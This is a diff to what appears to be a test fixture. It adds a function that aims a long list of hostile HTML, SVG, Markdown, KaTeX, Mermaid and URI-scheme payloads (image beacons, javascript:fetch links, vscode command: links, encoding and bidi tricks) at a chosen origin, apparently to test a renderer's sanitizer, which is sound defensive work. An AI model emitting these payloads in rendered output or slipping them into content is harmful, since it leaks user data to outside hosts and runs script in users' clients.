@@ -53,3 +53,44 @@ export const HOSTILE: readonly string[] = [
   '\\<script>window.pwned = 1</script> \\![x](https://evil.test/escaped)',
   '\\`![x](https://evil.test/no-code)\\`',
 ];
+
+/** Answers each of which has something fetched from `origin` where it is rendered carelessly: in every way there is. */
+export const aimedAt = (origin: string): readonly string[] => {
+  const bare = origin.replace(/^https?:/, '');
+  return [
+    ...HOSTILE.map((text) =>
+      text.replaceAll(/https?:\/\/evil\.test/g, origin).replaceAll('//evil.test', bare),
+    ),
+    `<link rel="preconnect" href="${origin}"><link rel="dns-prefetch" href="${bare}">`,
+    `<link rel="icon" href="${origin}/icon"><link rel="prefetch" href="${origin}/p"><link rel="modulepreload" href="${origin}/m">`,
+    `<a href="https://a.test" ping="${origin}/ping">x</a>`,
+    `<img srcset="${origin}/1x 1x, ${origin}/2x 2x"><picture><source srcset="${origin}/source"><img></picture>`,
+    `<p style="background:url(${origin}/style)">x</p><style>@import "${origin}/import"; @font-face{font-family:x;src:url(${origin}/font)}</style>`,
+    `<svg><image href="${origin}/image"/><use href="${origin}/use#x"/><foreignObject><img src="${origin}/foreign"></foreignObject></svg>`,
+    `<svg><style>@import url(${origin}/svg)</style><animate attributeName=href to="${origin}/animated"/><feImage href="${origin}/filter"/></svg>`,
+    `<math><mi xlink:href="${origin}/math">x</mi><annotation-xml encoding="text/html"><img src="${origin}/xml"></annotation-xml></math>`,
+    `<form action="${origin}/form" id=f></form><button form=f formaction="${origin}/button" autofocus>x</button>`,
+    `<input type=image src="${origin}/input"><isindex src="${origin}/isindex"><body background="${origin}/body"><table background="${origin}/table">`,
+    `<audio src="${origin}/audio"><track src="${origin}/track"></audio><iframe src="${origin}/frame"></iframe><portal src="${origin}/portal"></portal>`,
+    `<noscript><p title="</noscript><img src=${origin}/noscript>">`,
+    `<template><img src="${origin}/template"></template><xmp><img src="${origin}/xmp"></xmp><!--><img src="${origin}/comment">-->`,
+    `<div><!-- > <img src="${origin}/dangling'`,
+    `![a](${origin}/title 'a "b"') ![b](<${origin}/angle>) ![c](${origin}/(nested)) ![d]( ${origin}/space )`,
+    `![x][y]\n\n[y]: <${origin}/reference> "t"\n[z]: ${origin}/unused`,
+    `![x](${origin.replace(':', '&colon;')}/entity) ![x](${origin.replaceAll('/', '&sol;')}&sol;entity) ![x](${origin.replace('h', '&#x68;')}/entity)`,
+    `![x](${origin.replace('t', '%74')}/percent) ![x](${origin.replace('//', '\\/\\/')}/escaped) ![x](${bare}/relative) ![x](/\\${bare.slice(2)}/backslash)`,
+    `!\u200b[x](${origin}/zero) !\\[x](${origin}/backslash) \\![x](${origin}/mark) ![e99][x](${origin}/between) ![e1][x](${origin}/cited)`,
+    `\u202e![x](${origin}/bidi)\u202c [https://bank.test](${origin}/spoofed) [\u2066gro.knab\u2069](${origin}/isolated)`,
+    `\u0000![x](${origin}/null)\u0000<im\u0000g src="${origin}/tag">\ufeff![x](${origin}/bom)`,
+    `${'> '.repeat(60)}${'- '.repeat(60)}![x](${origin}/deep)`,
+    `| a |\n|---|\n| ![x](${origin}/cell) <img src=${origin}/html> |`,
+    `[^1]\n\n[^1]: ![x](${origin}/footnote)\n\n    ![x](${origin}/continued)`,
+    `$$\\includegraphics{${origin}/katex}\\href{${origin}}{x}\\htmlStyle{background:url(${origin}/html)}{x}$$`,
+    `\`\`\`mermaid\ngraph TD; A["<img src='${origin}/mermaid'>"] --> B; click B "${origin}/click"\n\`\`\``,
+    `\`\`\`js\n//# sourceMappingURL=${origin}/map\n\`\`\`\n\n\`\`\`html\n<img src="${origin}/fence">`,
+    `\`\`\`"><img src=${origin}/info>\nx\n\`\`\`\n~~~<img/src=${origin}/tilde>\n~~~`,
+    `<${origin}/auto> ${origin}/bare <javascript:fetch('${origin}')> [x](javascript:fetch('${origin}'))`,
+    `[x](command:vscode.open?${encodeURIComponent(JSON.stringify([`${origin}/command`]))} "t") <command:vscode.open> ![x](command:x)`,
+    `![x](vscode-resource://file///${origin}) ![x](vscode-webview://${bare}) ![x](blob:${origin}/1) ![x](filesystem:${origin}/t) ![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${origin}/data"/></svg>)`,
+  ];
+};
